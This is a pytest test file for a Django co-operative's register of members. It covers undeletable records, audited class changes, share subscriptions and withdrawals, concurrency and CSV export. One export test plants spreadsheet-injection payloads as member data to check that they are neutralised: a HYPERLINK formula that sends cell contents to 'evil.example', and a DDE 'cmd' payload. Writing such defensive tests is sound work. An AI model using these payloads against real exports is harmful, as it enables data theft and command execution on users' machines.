"""The register of members: kept forever, every change recorded, share capital to the penny."""

import csv
import datetime
import io

import pytest
from django.db import DatabaseError, connection, transaction
from django.urls import reverse
from django.utils import timezone

from carecoop.exceptions import ApplicationError
from members import selectors, services
from members.models import Membership, ShareTransaction
from tests.concurrency import race
from tests.factories import (
    MembershipFactory,
    UserFactory,
    admitted,
)
from tests.second_factor import log_in_with_second_factor


def test_the_database_refuses_to_delete_a_row_of_the_register(db):
    member = MembershipFactory(shares=0)  # nothing protects it but the database itself

    with pytest.raises(DatabaseError, match="kept forever"), transaction.atomic():
        Membership.objects.filter(pk=member.pk).delete()
    with (
        pytest.raises(DatabaseError, match="kept forever"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        cursor.execute("DELETE FROM members_membership WHERE id = %s", [member.pk])

    assert Membership.objects.filter(pk=member.pk).exists()


def test_the_database_refuses_to_delete_the_registers_history(member):
    with pytest.raises(DatabaseError, match="kept forever"), transaction.atomic():
        member.history.all().delete()


def test_the_database_refuses_to_change_or_delete_a_share_transaction(member):
    with pytest.raises(DatabaseError, match="never changed"), transaction.atomic():
        ShareTransaction.objects.filter(membership=member).update(amount_pence=1)
    with pytest.raises(DatabaseError, match="kept forever"), transaction.atomic():
        ShareTransaction.objects.filter(membership=member).delete()

    assert ShareTransaction.objects.get(membership=member).amount_pence == 100


def test_a_class_change_is_recorded_with_who_when_and_why(member, staff):
    services.membership_change_class(
        membership=member, member_class="advocate", by=staff, reason="Now supports her husband."
    )

    member.refresh_from_db()
    assert member.member_class == "advocate"
    latest = member.history.latest()
    assert (latest.history_user, latest.history_change_reason) == (staff, "Now supports her husband.")
    entries = selectors.membership_history(membership=member)
    assert entries[0].what == "Now supports her husband."
    assert entries[0].by == staff.email
    assert entries[0].changes == ["class: Person getting support → Family member, friend or advocate"]


def test_a_class_change_needs_a_reason(member, staff):
    with pytest.raises(ApplicationError) as refused:
        services.membership_change_class(membership=member, member_class="worker", by=staff, reason="")

    assert refused.value.code == "reason_required"
    member.refresh_from_db()
    assert member.member_class == "receiver"


@pytest.mark.parametrize("reason", ["resigned", "expelled", "died"])
def test_ceasing_keeps_the_row_with_date_and_reason_and_withdraws_the_shares(member, staff, reason):
    day = timezone.localdate() - datetime.timedelta(days=30)

    services.membership_cease(membership=member, by=staff, reason=reason, ceased_on=day)

    member.refresh_from_db()
    assert (member.date_ceased, member.cessation_reason) == (day, reason)
    assert selectors.membership_shares_held(membership=member).shares == 0
    ceased = selectors.register_list(standing="ceased")
    assert list(ceased) == [member]
    assert list(selectors.register_list(standing="current")) == []


def test_a_membership_cannot_cease_before_it_began(member, staff):
    with pytest.raises(ApplicationError) as refused:
        services.membership_cease(
            membership=member,
            by=staff,
            reason="resigned",
            ceased_on=member.date_admitted - datetime.timedelta(days=1),
        )

    assert refused.value.code == "ceased_before_admitted"


def test_a_current_member_keeps_at_least_one_share(member, staff):
    with pytest.raises(ApplicationError) as refused:
        services.shares_withdraw(
            membership=member, shares=1, paid_on=timezone.localdate(), reference="", by=staff
        )

    assert refused.value.code == "below_minimum_holding"
    assert selectors.membership_shares_held(membership=member).shares == 1


def test_shares_bought_and_withdrawn_add_up_to_the_penny(member, staff):
    day = timezone.localdate()
    services.shares_subscribe(membership=member, shares=99, paid_on=day, reference="INV-1", by=staff)
    services.shares_withdraw(membership=member, shares=40, paid_on=day, reference="REPAY-1", by=staff)

    holding = selectors.membership_shares_held(membership=member)
    assert (holding.shares, holding.amount_pence) == (60, 60_00)
    row = selectors.register_list().get(pk=member.pk)
    assert (row.shares_held, row.amount_paid_pence) == (60, 60_00)


def test_no_member_may_hold_more_than_the_maximum(member, staff):
    with pytest.raises(ApplicationError) as refused:
        services.shares_subscribe(
            membership=member, shares=30_000, paid_on=timezone.localdate(), reference="", by=staff
        )

    assert refused.value.code == "holding_above_maximum"


@pytest.mark.django_db(transaction=True)
def test_two_simultaneous_withdrawals_cannot_spend_the_same_shares():
    staff = UserFactory(is_staff=True)
    member = MembershipFactory(shares=2)

    def withdraw():
        return services.shares_withdraw(
            membership=member, shares=1, paid_on=timezone.localdate(), reference="", by=staff
        )

    results = race([withdraw for _ in range(10)])

    assert len([r for r in results if isinstance(r, ShareTransaction)]) == 1
    assert selectors.membership_shares_held(membership=member).shares == 1


def test_search_and_filters_find_members(staff):
    ruth = MembershipFactory(legal_name="Ruth Sutcliffe", postcode="HX7 8AH", member_class="receiver")
    tom = MembershipFactory(legal_name="Tom Ackroyd", postcode="OL14 5AB", member_class="worker")

    assert list(selectors.register_list(search="sutcliffe")) == [ruth]
    assert list(selectors.register_list(search="OL14")) == [tom]
    assert list(selectors.register_list(search=str(tom.number))) == [tom]
    assert list(selectors.register_list(member_class="worker")) == [tom]


def test_participation_needs_admission_a_paid_share_and_no_cessation(member, staff):
    assert selectors.membership_can_participate(membership=member)
    assert not selectors.membership_can_participate(membership=MembershipFactory(shares=0))
    assert not selectors.membership_can_participate(
        membership=member, on=member.date_admitted - datetime.timedelta(days=1)
    )
    services.membership_cease(membership=member, by=staff, reason="resigned", ceased_on=timezone.localdate())
    assert not selectors.membership_can_participate(membership=member)


TODAY = datetime.date(2026, 11, 23)


@pytest.mark.usefixtures("now")
def test_a_child_cannot_become_a_worker_by_a_change_of_class(documents, staff):
    child = admitted(staff, datetime.date(2016, 5, 1))

    with pytest.raises(ApplicationError) as refused:
        services.membership_change_class(membership=child, member_class="worker", by=staff, reason="Asked")

    assert refused.value.code == "too_young"
    child.refresh_from_db()
    assert child.member_class == "receiver"


@pytest.mark.usefixtures("now")
def test_an_adult_may_move_to_the_worker_class(documents, staff):
    adult = admitted(staff, datetime.date(1980, 5, 1))

    services.membership_change_class(membership=adult, member_class="worker", by=staff, reason="Trained")

    adult.refresh_from_db()
    assert adult.member_class == "worker"


@pytest.mark.usefixtures("now")
def test_moving_to_the_investor_class_needs_an_investors_holding(member, staff):
    with pytest.raises(ApplicationError) as refused:
        services.membership_change_class(membership=member, member_class="investor", by=staff, reason="x")

    assert refused.value.code == "investment_out_of_bounds"


@pytest.mark.usefixtures("now")
def test_a_membership_cannot_be_ended_in_advance(member, staff):
    with pytest.raises(ApplicationError) as refused:
        services.membership_cease(
            membership=member,
            by=staff,
            reason="resigned",
            ceased_on=TODAY + datetime.timedelta(days=30),
        )

    assert refused.value.code == "ceased_in_future"
    member.refresh_from_db()
    assert member.is_current


@pytest.mark.usefixtures("now")
@pytest.mark.parametrize(
    ("day", "code"),
    [(datetime.date(2099, 1, 1), "date_in_future"), (datetime.date(2020, 1, 1), "date_before_admission")],
)
def test_share_transactions_are_dated_within_the_membership(member, staff, day, code):
    with pytest.raises(ApplicationError) as refused:
        services.shares_subscribe(membership=member, shares=10, paid_on=day, reference="", by=staff)

    assert refused.value.code == code


@pytest.mark.usefixtures("now")
def test_the_register_csv_cannot_run_formulas_in_a_spreadsheet(client, staff):
    MembershipFactory(
        legal_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', address="+cmd|' /C calc'!A0"
    )
    log_in_with_second_factor(client, staff)

    rows = list(
        csv.reader(io.StringIO(client.get(reverse("staff_register"), {"format": "csv"}).getvalue().decode()))
    )

    assert rows[1][1].startswith("'=HYPERLINK")
    assert rows[1][2].startswith("'+cmd")


@pytest.mark.usefixtures("now")
def test_staff_correct_a_name_and_address_with_the_reason_in_the_history(member, staff):
    services.membership_update_details(
        membership=member,
        by=staff,
        legal_name="Margaret Greenwood-Hirst",
        address="3 Market Place\nHebden Bridge",
        postcode="hx7 8dd",
        reason="Married; moved house.",
    )

    entry = next(
        e for e in selectors.membership_history(membership=member) if e.what == "Married; moved house."
    )
    assert entry.by == staff.email
    assert any("Margaret Greenwood-Hirst" in change for change in entry.changes)
    member.refresh_from_db()
    assert member.postcode == "HX7 8DD"
